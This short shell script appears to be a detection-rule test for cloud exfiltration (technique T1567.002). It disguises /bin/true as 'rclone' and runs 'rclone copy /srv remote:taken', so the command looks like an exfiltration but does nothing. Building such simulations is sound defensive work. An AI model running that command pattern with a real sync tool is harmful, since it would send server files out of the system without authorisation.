#!/bin/sh
# what: Asks a program called rclone to copy files to a cloud; it does nothing.
# rule: cloud_sync_tool
# technique: T1567.002
# severity: medium
# where: both
d=$(mktemp -d)
trap 'rm -rf "$d"' EXIT
cp /bin/true "$d/rclone"
"$d/rclone" copy /srv remote:taken
